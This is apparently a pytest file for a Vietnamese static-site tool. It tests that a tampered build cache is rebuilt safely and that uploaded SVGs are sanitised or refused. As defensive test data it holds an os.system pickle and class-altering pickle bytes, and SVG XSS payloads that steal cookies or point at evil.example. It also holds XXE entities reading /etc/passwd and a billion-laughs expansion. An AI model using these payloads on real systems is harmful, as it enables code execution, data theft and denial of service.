"""The build cache is a hint, never a source of truth; an uploaded SVG is published safe.

Cache: a warmed Ea Trang project (photos, share cards, QR codes, converted HTML, feeds) is
copied, its cache damaged in one way, and built again. Every time `binhdan check` and
`mkdocs build --strict` succeed, say so in one bilingual line, and the site is byte for byte
the one a cold build makes. SVG: covers, body pictures and attachments carrying each known
attack are published with none of it (the published file is parsed), or refused with a
message naming the file."""

from __future__ import annotations

import hashlib
import io
import json
import os
import pickle
import re
import shutil
import sqlite3
import subprocess
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from defusedxml.ElementTree import fromstring
from PIL import Image

from binhdan.common.problems import MESSAGES
from binhdan.model.mkdocs_yml import cache_folder
from binhdan.outputs.pipeline import SCRATCH_PREFIX
from conftest import BIN, Built, Result, build, check, run

NEWS = "content/news/lop-hoc-buon-mot.vi.md"
NEWS_PAGE = "tin-tuc/lop-hoc-buon-mot/"
DATABASES = ("parsed", "html", "qr", "feeds", "search")


def english(code: str) -> str:
    """The longest fixed part of a message's English text (between placeholders)."""
    return max(re.split(r"\{\w+\}", MESSAGES[code][1]), key=len)


def cache_lines(result: Result) -> list[str]:
    return [line for line in result.out.splitlines()
            if line.startswith("CẢNH BÁO / WARNING") and "cache" in line]


def add_to_news(project: Path, front: str, body: str = "") -> None:
    path = project / NEWS
    text = path.read_text(encoding="utf-8").replace("illustrative: true\n",
                                                    f"illustrative: true\n{front}")
    path.write_text(text + body, encoding="utf-8")


def tree(site: Path) -> dict[str, str]:
    """Every published file and the digest of its bytes."""
    return {path.relative_to(site).as_posix(): hashlib.sha256(path.read_bytes()).hexdigest()
            for path in sorted(site.rglob("*")) if path.is_file()}


# --- the build cache ---------------------------------------------------------------------


@pytest.fixture(scope="module")
def warmed(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, str]]:
    """Ea Trang with a cover photo and a body picture, built once with a cold cache: the
    project (its .cache/ filled) and the site every damaged cache must still produce."""
    from test_images import writable_copy  # the same copy as conftest's `project`

    project = writable_copy(tmp_path_factory.mktemp("warmed") / "project")
    Image.new("RGB", (1600, 900), (20, 90, 160)).save(project / "content/news/anh.jpg")
    Image.new("RGB", (800, 600), (200, 40, 40)).save(project / "content/news/so-do.png")
    add_to_news(project, "image: anh.jpg\nimage_alt: Lớp học buổi tối\n",
                "\n![Sơ đồ lớp học](so-do.png)\n")
    built = build(project, project / "site")
    assert built.result.code == 0, built.result.out
    assert not cache_lines(built.result), built.result.out
    return project, tree(built.site)


@pytest.fixture
def copy(warmed: tuple[Path, dict[str, str]], tmp_path: Path) -> Path:
    """A copy of the warmed project, its cache included, to damage."""
    target = tmp_path / "project"
    # not the scratch folder of its build, being removed in the background
    shutil.copytree(warmed[0], target,
                    ignore=shutil.ignore_patterns("site", f"{SCRATCH_PREFIX}*"))
    return target


def cache(project: Path) -> Path:
    return project / ".cache" / "binhdan"


def check_and_build(project: Path) -> tuple[Result, Built]:
    """`binhdan check` and `mkdocs build --strict`, each on its own copy of the damaged
    project (either would repair the cache for the other)."""
    for_check = project.with_name(f"{project.name}-check")
    shutil.copytree(project, for_check, symlinks=True,  # not a scratch folder being removed
                    ignore=shutil.ignore_patterns(f"{SCRATCH_PREFIX}*"))
    return check(for_check), build(project, project.parent / "site")


def assert_carries_on(project: Path, cold: dict[str, str], code: str,
                      counts: tuple[int, int] = (1, 1)) -> None:
    """check and build succeed, telling `code` in exactly `counts` lines (check's, build's)
    and nothing else about the cache, and the site is the cold build's."""
    checked, built = check_and_build(project)
    for result, count in zip((checked, built.result), counts, strict=True):
        assert result.code == 0 and "Traceback" not in result.out, result.out
        lines = cache_lines(result)
        assert len(lines) == count and all(english(code) in line for line in lines), result.out
    assert tree(built.site) == cold


def test_a_warm_build_trusts_a_sound_cache_silently(warmed: tuple[Path, dict[str, str]],
                                                    copy: Path) -> None:
    checked, built = check(copy), build(copy, copy.parent / "site")
    assert checked.code == built.result.code == 0, checked.out + built.result.out
    assert not cache_lines(checked) and not cache_lines(built.result), built.result.out
    assert "images rendered" not in built.result.out  # the photos came from the cache
    assert tree(built.site) == warmed[1]


def test_a_file_where_the_cache_folder_should_be(warmed: tuple[Path, dict[str, str]],
                                                 copy: Path) -> None:
    shutil.rmtree(copy / ".cache")
    (copy / ".cache").write_text("not a folder", encoding="utf-8")
    assert_carries_on(copy, warmed[1], "cache_unusable")


def test_a_cache_folder_that_cannot_be_created(warmed: tuple[Path, dict[str, str]],
                                               copy: Path) -> None:
    """A cache path nothing can write, not even root (tests run as root)."""
    mkdocs_yml = copy / "mkdocs.yml"
    mkdocs_yml.write_text(mkdocs_yml.read_text(encoding="utf-8").replace(
        "  - binhdan\n", "  - binhdan:\n      cache_dir: /proc/binhdan-cache\n"),
        encoding="utf-8")
    built = build(copy, copy.parent / "site")
    assert built.result.code == 0, built.result.out
    lines = cache_lines(built.result)
    assert len(lines) == 1 and english("cache_unusable") in lines[0], built.result.out
    assert tree(built.site) == warmed[1]


def test_a_build_without_a_cache_leaves_nothing_in_the_temporary_folder(
        warmed: tuple[Path, dict[str, str]], copy: Path, tmp_path: Path) -> None:
    """With the cache off (`cache_dir: ""`) pictures, cards and the pages' scratch folder go
    to the system's temporary folder: gone once the build or check has ended, the site kept."""
    mkdocs_yml = copy / "mkdocs.yml"
    mkdocs_yml.write_text(mkdocs_yml.read_text(encoding="utf-8").replace(
        "  - binhdan\n", '  - binhdan:\n      cache_dir: ""\n'), encoding="utf-8")
    shutil.rmtree(copy / ".cache")
    temporary = tmp_path / "tmp"
    temporary.mkdir()
    built = build(copy, copy.parent / "site", TMPDIR=str(temporary))
    assert built.result.code == 0, built.result.out
    assert run([str(BIN / "binhdan"), "check"], copy, TMPDIR=str(temporary)).code == 0
    published = tree(built.site)
    assert published == warmed[1] and any(name.startswith("og/") for name in published)
    deadline = time.monotonic() + 30
    while any(temporary.iterdir()) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not any(temporary.iterdir()), sorted(p.name for p in temporary.iterdir())
    assert tree(built.site) == published
    assert not (copy / ".cache").exists()


@pytest.mark.parametrize(("plugins", "expected"), [
    ("  - search\n  - binhdan\n", ".cache/binhdan"),
    ("  - search:\n      lang: vi\n  - binhdan:\n      cache_dir: build-cache\n", "build-cache"),
    ("  - binhdan:\n      lock_timeout: 60\n", ".cache/binhdan"),
    ("  binhdan:\n    cache_dir: ''\n", None),  # plugins as a mapping by name
    ("  - binhdan:\n      cache_dir:\n", ".cache/binhdan"),  # null: MkDocs' default
    ("  - binhdan:\n      cache_dir: ~\n", ".cache/binhdan"),
    ("  - binhdan:\n      cache_dir: !ENV [BINHDAN_TEST_UNSET, env-cache]\n", "env-cache"),
    ("  - binhdan:\n      cache_dir: !ENV [HOME, env-cache]\n", "HOME"),
])
def test_check_keeps_its_cache_where_the_build_does(plugins: str, expected: str | None,
                                                    tmp_path: Path) -> None:
    (tmp_path / "mkdocs.yml").write_text(
        "site_name: x\nmarkdown_extensions:\n  - toc:\n"
        "      slugify: !!python/name:binhdan.slugs.heading_id\n"
        f"plugins:\n{plugins}", encoding="utf-8")
    expected = os.environ["HOME"] if expected == "HOME" else expected
    assert cache_folder(tmp_path) == (tmp_path / expected if expected else None)


@pytest.fixture
def world_readable(copy: Path) -> Iterator[Path]:
    """The copy where an unprivileged user can read it (pytest's folders are root's only)."""
    folder = Path(tempfile.mkdtemp(prefix="binhdan-readonly-"))
    folder.chmod(0o777)
    shutil.copytree(copy, folder / "project")
    yield folder / "project"
    shutil.rmtree(folder)


@pytest.mark.skipif(os.geteuid() != 0 or not shutil.which("setpriv"),
                    reason="needs root to run the build as another user")
def test_a_read_only_cache(warmed: tuple[Path, dict[str, str]], world_readable: Path) -> None:
    """`chmod -R a-w .cache`, then check and build as a user who cannot write it."""
    subprocess.run(["chmod", "-R", "a-w", str(world_readable / ".cache")], check=True)
    as_nobody = [shutil.which("setpriv") or "", "--reuid=65534", "--regid=65534",
                 "--clear-groups"]
    checked = run([*as_nobody, str(BIN / "binhdan"), "check"], world_readable)
    out = world_readable.parent / "site"
    built = run([*as_nobody, str(BIN / "mkdocs"), "build", "--strict", "-d", str(out)],
                world_readable)
    for result in (checked, built):
        assert result.code == 0 and "Traceback" not in result.out, result.out
        lines = cache_lines(result)
        assert len(lines) == 1 and english("cache_unusable") in lines[0], result.out
    assert tree(out) == warmed[1]


@pytest.mark.parametrize("damage", ["random bytes", "truncated", "a text file",
                                    "another schema", "an old format"])
def test_damaged_databases_are_rebuilt(warmed: tuple[Path, dict[str, str]], copy: Path,
                                       damage: str) -> None:
    for name in DATABASES:
        path = cache(copy) / f"{name}.sqlite"
        data = path.read_bytes()
        if damage == "random bytes":
            path.write_bytes(os.urandom(len(data)))
        elif damage == "truncated":  # the header and first pages survive, the rest is gone
            path.write_bytes(data[:len(data) // 3 // 4096 * 4096 or 4096])
        elif damage == "a text file":
            path.write_text("Đây không phải cơ sở dữ liệu.\n", encoding="utf-8")
        else:
            path.unlink()
            with sqlite3.connect(path) as db:
                if damage == "another schema":
                    db.execute("create table entries (id integer, blob text)")
                else:  # the cache as an earlier version wrote it: no digests
                    db.execute("create table entries (key text primary key, value blob)")
                    db.execute("insert into entries values ('x', ?)", (pickle.dumps("x"),))
            db.close()
    checked, built = check_and_build(copy)
    for result, opened in ((checked, 1), (built.result, len(DATABASES))):  # check: parsed
        assert result.code == 0 and "Traceback" not in result.out, result.out
        lines = cache_lines(result)
        if damage == "truncated":  # a truncated file may still read as an empty database
            assert len(lines) <= opened, result.out
        else:
            assert len(lines) == opened, result.out
        assert all(english("cache_damaged") in line for line in lines), result.out
    assert tree(built.site) == warmed[1]
    again = build(copy, copy.parent / "again")  # rebuilt: the next build is warm and quiet
    assert again.result.code == 0 and not cache_lines(again.result), again.result.out
    assert tree(again.site) == warmed[1]


def test_a_locked_database_is_left_alone(warmed: tuple[Path, dict[str, str]],
                                         copy: Path) -> None:
    """Another program (a second build, a database browser) holds parsed.sqlite."""
    holder = sqlite3.connect(cache(copy) / "parsed.sqlite", isolation_level=None)
    holder.execute("begin exclusive")
    try:
        checked, built = check(copy), build(copy, copy.parent / "site")
    finally:
        holder.rollback()
        holder.close()
    for result in (checked, built.result):
        assert result.code == 0 and "Traceback" not in result.out, result.out
        lines = cache_lines(result)
        assert len(lines) == 1 and english("cache_busy") in lines[0], result.out
    assert tree(built.site) == warmed[1]
    assert (cache(copy) / "parsed.sqlite").stat().st_size > 4096  # not thrown away


def test_damaged_and_planted_entries_are_made_again(warmed: tuple[Path, dict[str, str]],
                                                    copy: Path, tmp_path: Path) -> None:
    """Values that fail their digest, and pickles that would run code with a digest that
    matches: neither is used, nothing runs, the site is the cold one."""
    marker = tmp_path / "ran"

    class Planted:
        def __reduce__(self) -> tuple[object, ...]:
            return (os.system, (f"touch {marker}",))

    # the project's own class, allowed in the cache, and an attribute set on the class
    # itself: every item a draft (nothing published) if it stayed
    drafts = b"\x80\x02cbinhdan.model.content\nItem\nN}Vdraft\nI01\ns\x86b."
    planted = [pickle.dumps(Planted()), drafts]
    counts = {}
    for name in DATABASES:
        with sqlite3.connect(cache(copy) / f"{name}.sqlite") as db:
            keys = [key for (key,) in db.execute("select key from entries order by key")]
            for number, key in enumerate(keys):
                if number % 3 == 2:  # flipped bytes, digest left as it was
                    db.execute("update entries set value = substr(value, 1, length(value) - 1)"
                               " || x'00' where key = ?", (key,))
                else:  # a valid digest of a pickle that calls os.system or changes a class
                    value = planted[number % 3]
                    db.execute("update entries set value = ?, digest = ? where key = ?",
                               (value, hashlib.sha256(value).hexdigest(), key))
            counts[name] = len(keys)
        db.close()
    # and what builds keep for the next one in a new process (cache.Shelf): the same three
    shards = sorted((cache(copy) / "memory").glob("*.pickle"))
    for number, path in enumerate(shards):
        head, _, body = path.read_bytes().partition(b"\n")
        if number % 3 == 2:
            path.write_bytes(head + b"\n" + body[:-1] + b"\0")
        else:
            version, value = head.split(b" ")[0], planted[number % 3]
            digest = hashlib.sha256(value).hexdigest().encode()
            path.write_bytes(version + b" " + digest + b"\n" + value)
    counts["memory"] = len(shards)
    checked, built = check_and_build(copy)
    assert not marker.exists()
    read = ["parsed", "html", "qr", "feeds", "search"]  # the copy's feeds are read too
    for result, names in ((checked, read[:1]), (built.result, [*read, "memory"])):
        assert result.code == 0 and "Traceback" not in result.out, result.out
        lines = cache_lines(result)
        assert len(lines) == len(names), result.out
        for name in names:
            assert any(f"/{name}" in line and f" {counts[name]} cache entries" in line
                       and english("cache_entries_damaged") in line for line in lines), \
                result.out
    assert tree(built.site) == warmed[1]
    again = build(copy, copy.parent / "again")  # made again: the next build is quiet
    assert again.result.code == 0 and not cache_lines(again.result), again.result.out
    assert tree(again.site) == warmed[1]


def test_entries_read_after_others_were_written_are_not_taken_for_damage(
        project: Path, tmp_path: Path) -> None:
    """A build that writes cache entries (pickling the project's classes marks them, as
    Python does) and then reads older ones: an edit, then the file put back as it was."""
    out = tmp_path / "site"
    assert build(project, out, dirty=True).result.code == 0
    news = next((project / "content/news").glob("*.vi.md"))
    text = news.read_text(encoding="utf-8")
    news.write_text(text.replace("title: ", "title: Mới - ", 1), encoding="utf-8")
    for _ in range(2):
        again = build(project, out, dirty=True)
        assert again.result.code == 0 and not cache_lines(again.result), again.result.out
        news.write_text(text, encoding="utf-8")  # as it was: its reading is in parsed.sqlite


@pytest.mark.parametrize("damage", ["edited", "missing", "truncated", "manifest"])
def test_tampered_cached_images_and_cards_are_redrawn(warmed: tuple[Path, dict[str, str]],
                                                      copy: Path, damage: str) -> None:
    """A cached photo variant and share card edited in place, deleted or cut short, or the
    record of a photo's variants garbled or pointed at another photo's files, are drawn
    again: what is published is what a cold build publishes."""
    if damage == "manifest":
        first, second = sorted((cache(copy) / "images").glob("*.txt"))[:2]
        first.write_text(second.read_text(encoding="utf-8"), encoding="utf-8")  # sound files
        second.write_text("720 405\nimg/x.png 1 1 png\n", encoding="utf-8")
        assert_carries_on(copy, warmed[1], "cache_entries_damaged")
        return
    variants = sorted((cache(copy) / "images").glob("*-720.*"))
    share_cards = sorted((cache(copy) / "cards").glob("*.png"))[:3]
    assert variants and share_cards
    other = io.BytesIO()
    Image.new("RGB", (720, 405), (0, 0, 0)).save(other, "PNG")
    for path in (*variants, *share_cards):
        if damage == "edited":  # in place: the same inode, the same name
            with path.open("r+b") as opened:
                opened.write(other.getvalue())
                opened.truncate()
        elif damage == "missing":
            path.unlink()
        else:
            path.write_bytes(path.read_bytes()[:100])
    # check renders photos only; a card gone from the cache is simply drawn again
    assert_carries_on(copy, warmed[1], "cache_entries_damaged",
                      (1, 1) if damage == "missing" else (1, 2))


@pytest.mark.parametrize("damage", ["same size", "record garbled"])
def test_files_found_sound_before_are_checked_again_once_written(
        warmed: tuple[Path, dict[str, str]], copy: Path, damage: str) -> None:
    """A build records the cached pictures and cards it found sound (inode, size, time of
    last write: `.checked.json`), so the next reads only files written since. A card or
    picture variant overwritten in place with bytes of the same length after that is read
    and drawn again all the same; a garbled record only means every file is read again."""
    first = build(copy, copy.parent / "first")  # records the copy's own files
    assert first.result.code == 0 and not cache_lines(first.result), first.result.out
    records = [cache(copy) / folder / ".checked.json" for folder in ("cards", "images")]
    assert all(record.is_file() for record in records)
    if damage == "record garbled":
        for record in records:
            record.write_text('{"x.png": [1, 2, 3, "4"], "y": "z"', encoding="utf-8")
        assert_carries_on(copy, warmed[1], "cache_entries_damaged", (0, 0))
        return
    damaged = [sorted((cache(copy) / "cards").glob("*.png"))[0],
               sorted((cache(copy) / "images").glob("*-720.*"))[0]]
    for path in damaged:
        data = bytearray(path.read_bytes())
        data[len(data) // 2] ^= 0xFF  # one byte flipped, in place: same inode, same size
        with path.open("r+b") as opened:
            opened.write(data)
    assert_carries_on(copy, warmed[1], "cache_entries_damaged", (1, 2))


@pytest.mark.parametrize("manifest", [
    "{not json", "[1, 2, 3]", '{"format": 2, "pages": [], "files": {}}',
    '{"format": 2, "pages": {}, "files": ["../outside.txt"]}',
    '{"format": 2, "pages": {"../../outside/": "x"}, "files": []}',
])
def test_a_damaged_page_manifest_rebuilds_every_page(copy: Path, tmp_path: Path,
                                                     manifest: str) -> None:
    """The manifest a dirty build (`make serve`) trusts to delete pages that are gone: a
    damaged one is told and ignored, and cannot make the build delete outside the site."""
    site = tmp_path / "out" / "site"
    first = build(copy, site, dirty=True)
    assert first.result.code == 0, first.result.out
    cold = tree(site)
    outside = [tmp_path / "out" / "outside.txt", tmp_path / "outside" / "index.html"]
    for path in outside:
        path.parent.mkdir(exist_ok=True)
        path.write_text("not the site's", encoding="utf-8")
    for path in cache(copy).glob("pages-*.json"):
        path.write_text(manifest, encoding="utf-8")
    again = build(copy, site, dirty=True)
    assert again.result.code == 0 and "Traceback" not in again.result.out, again.result.out
    assert all(path.exists() for path in outside)
    lines = cache_lines(again.result)
    assert len(lines) == 1 and english("cache_damaged") in lines[0], again.result.out
    assert tree(site) == cold


# --- uploaded SVG --------------------------------------------------------------------------

SVG = "http://www.w3.org/2000/svg"
XLINK = "http://www.w3.org/1999/xlink"
HARMLESS = f"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns="{SVG}" xmlns:xlink="{XLINK}" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
     viewBox="0 0 100 50" inkscape:version="1.3"><defs><linearGradient id="g">
<stop offset="0" stop-color="#0b5"/></linearGradient></defs>
<rect width="100" height="50" fill="url(#g)" style="stroke:url(#g)"/>
<use xlink:href="#g"/><text x="5" y="30">Bước 1 &amp; 2</text></svg>"""
ATTACKS = {  # file -> (SVG, what the warning must name)
    "bia.svg": (f"""<svg xmlns="{SVG}" onload="alert(1)"><script>alert(document.cookie)</script>
<g OnClick="alert(2)"><circle r="4"/></g>
<foreignObject width="9" height="9"><div xmlns="http://www.w3.org/1999/xhtml">
<iframe src="https://evil.example/"/></div></foreignObject>
<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(3)</h:script></svg>""",
                ["onload", "<script>", "OnClick", "<foreignObject>"]),
    "trong-bai.svg": (f"""<?xml-stylesheet href="https://evil.example/x.css"?>
<svg xmlns="{SVG}" xmlns:xlink="{XLINK}"><a href="javascript:alert(1)"><text>x</text></a>
<a xlink:href="https://evil.example/"><text>y</text></a>
<image href="https://evil.example/track.png"/>
<image xlink:href="data:image/svg+xml;base64,PHN2Zz4="/>
<use href="https://evil.example/sprite.svg#icon"/><feImage href="http://evil.example/i"/>
<set attributeName="href" to="javascript:alert(2)"/><animate attributeName="xlink:href"
 values="javascript:alert(3)"/></svg>""",
                      ["javascript:alert(1)", "https://evil.example/", "data:image/svg+xml",
                       "<set", "xml-stylesheet"]),
    "so-do.svg": (f"""<svg xmlns="{SVG}"><style>@import url("https://evil.example/a.css");
rect {{ fill: red }}</style><rect style="fill:url(https://evil.example/p)"/>
<rect fill="url('http://evil.example/x.svg#p')"/><rect style="background:u\\72l(//evil.example)"/>
<circle xml:base="https://evil.example/" r="1"/></svg>""",
                  ["<style>", "fill:url(https://evil.example/p)", "base"]),
}
BODY = "\n![Sơ đồ trong bài](trong-bai.svg)\n\n[Tải sơ đồ](so-do.svg) · [Hình gốc](dep.svg)\n"


def unsafe_parts(data: bytes) -> list[str]:
    """What in a published SVG could run code or reach outside it (parsed, as a browser
    would: the parser refuses entities and DTDs, so a file that parses has none)."""
    found = []
    if b"<?xml-stylesheet" in data or b"<!ENTITY" in data:
        found.append("prolog")
    for element in fromstring(data).iter():
        tag = element.tag
        if not tag.startswith(f"{{{SVG}}}") or tag.split("}")[1] in (
                "script", "foreignObject", "iframe", "handler", "listener"):
            found.append(tag)
        if tag.split("}")[1] in ("set", "animate") and "href" in element.get("attributeName", ""):
            found.append(tag)
        for name, value in element.attrib.items():
            local = name.split("}")[-1]
            lowered = value.lower()
            if local.lower().startswith("on") or local == "base" or (
                    local == "href" and not value.startswith("#")) or "@import" in lowered or (
                    "url(" in lowered and "url(#" not in lowered) or "\\" in value:
                found.append(f"{local}={value}")
        if element.text and tag.endswith("}style") and (
                "@import" in element.text or "url(" in element.text):
            found.append("style sheet")
    return found


def test_published_svgs_carry_no_script_and_no_outside_reference(project: Path) -> None:
    for name, (text, _) in ATTACKS.items():
        (project / "content/news" / name).write_text(text, encoding="utf-8")
    (project / "content/news/dep.svg").write_text(HARMLESS, encoding="utf-8")
    add_to_news(project, "image: bia.svg\nimage_alt: Bìa\n", BODY)
    checked = check(project)
    built = build(project, project.parent / "site")
    assert checked.code == 0 and built.result.code == 0, checked.out + built.result.out
    for name, (_, named) in ATTACKS.items():
        published = built.site / "news" / name
        assert unsafe_parts(published.read_bytes()) == [], name
        assert unsafe_parts((project / "content/news" / name).read_bytes())  # it did have some
        for result in (checked, built.result):  # the editor learns which file and what went
            block = result.out.split(f"content/news/{name}", 1)[1].split("WARNING")[0]
            assert english("svg_unsafe_removed") in block, result.out
            assert all(part in block for part in named), (name, block)
    # A drawing with nothing unsafe is published as drawn, without a word.
    kept = fromstring((built.site / "news/dep.svg").read_bytes())
    assert kept.find(f"{{{SVG}}}rect").get("fill") == "url(#g)"
    assert kept.find(f"{{{SVG}}}use").get(f"{{{XLINK}}}href") == "#g"
    assert kept.find(f"{{{SVG}}}text").text == "Bước 1 & 2"
    assert "content/news/dep.svg" not in checked.out
    # The cover and body picture still point at the published files.
    page = built.html(NEWS_PAGE)
    assert {img["src"] for img in page.select("img")} >= {"../../news/bia.svg",
                                                         "../../news/trong-bai.svg"}


@pytest.mark.parametrize(("svg", "code"), [
    (f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
     f'<svg xmlns="{SVG}"><text>&xxe;</text></svg>', "svg_entities"),
    ('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;">'
     '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;">]>'
     f'<svg xmlns="{SVG}"><text>&c;</text></svg>', "svg_entities"),
    ('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY % p SYSTEM "https://evil.example/p.dtd">'
     f'%p;]><svg xmlns="{SVG}"/>', "svg_entities"),
    (f'<svg xmlns="{SVG}"><g></svg>', "svg_unreadable"),
    ("<html><body><script>alert(1)</script></body></html>", "svg_unreadable"),
    ('<svg onload="alert(1)"/>', "svg_unreadable"),  # no SVG namespace: not drawn as SVG
])
def test_svgs_that_cannot_be_parsed_safely_are_refused(project: Path, svg: str,
                                                       code: str) -> None:
    (project / "content/news/hinh.svg").write_text(svg, encoding="utf-8")
    add_to_news(project, "image: hinh.svg\nimage_alt: Hình\n")
    checked = check(project)
    built = build(project, project.parent / "site")
    for result in (checked, built.result):
        assert result.code == 1 and "Traceback" not in result.out, result.out
        block = result.out.split("content/news/hinh.svg", 1)[1]
        assert english(code) in block and NEWS in block, result.out
    assert not built.site.exists()


def test_a_preview_keeps_the_entries_its_last_build_used(tmp_path: Path) -> None:
    """`make serve` keeps what a build read or wrote of a store (`kept`): the next build gets
    it without the disk, and what it did not use is let go."""
    from binhdan.common.cache import Store

    kept: dict[str, object] = {}
    with Store(tmp_path / "feeds.sqlite", kept) as store:
        store.put({"a": "feed a", "b": "feed b"})
    assert kept == {"a": "feed a", "b": "feed b"}
    (tmp_path / "feeds.sqlite").unlink()  # not read again: the disk has nothing now
    with Store(tmp_path / "feeds.sqlite", kept) as store:
        assert store.get(["a", "c"]) == {"a": "feed a"}
    assert kept == {"a": "feed a"}
    with Store(None, kept) as store:  # no cache folder: kept all the same
        assert store.get(["a"]) == {"a": "feed a"}


def test_a_record_of_checked_files_of_another_shape_is_a_record_of_nothing(
        tmp_path: Path) -> None:
    """A `.checked.json` that is JSON but not a record (edited, or from another version)
    vouches for no file and stops no build: a build in place looks at each linked share
    card through it."""
    from binhdan.common.cache import CheckedFiles, digest

    card = tmp_path / "a.png"
    card.write_bytes(b"card")
    (tmp_path / CheckedFiles.RECORD).write_text(
        json.dumps({"a.png": 5, "b.png": [1, 2], "c.png": "text"}), encoding="utf-8")
    checked = CheckedFiles(tmp_path)
    assert not any(checked.linked(name, str(card)) for name in ("a.png", "b.png", "c.png"))
    assert checked.intact("a.png", digest(b"card"))  # read again: its bytes are sound
    assert not checked.intact("a.png", digest(b"other"))


def test_a_kept_plan_cannot_change_the_objects_it_names() -> None:
    """A kept plan names the build's own items, terms and content types; a planted pickle
    that sets an attribute of one (here: makes guides unlisted, for every later build of
    the process) is refused and the object put back as it was."""
    from binhdan.common.cache import dumps_linked, loads_linked
    from binhdan.model.schema import TYPES_BY_FOLDER

    guides = TYPES_BY_FOLDER["guides"]
    before = dict(vars(guides))

    def find(name: tuple[str, ...]) -> object:
        return TYPES_BY_FOLDER[name[1]]
    # persistent id ("type", "guides"), then BUILD with {"listed": False} on it
    planted = (b"\x80\x04\x8c\x04type\x8c\x06guides\x86Q}\x8c\x06listed\x89sb.")
    with pytest.raises(pickle.UnpicklingError):
        loads_linked(planted, find)
    assert vars(guides) == before and guides.listed
    kept = dumps_linked([guides, "x"], lambda obj: ("type", "guides") if obj is guides
                        else None)
    assert loads_linked(kept, find) == [guides, "x"]  # a sound one is read, by name
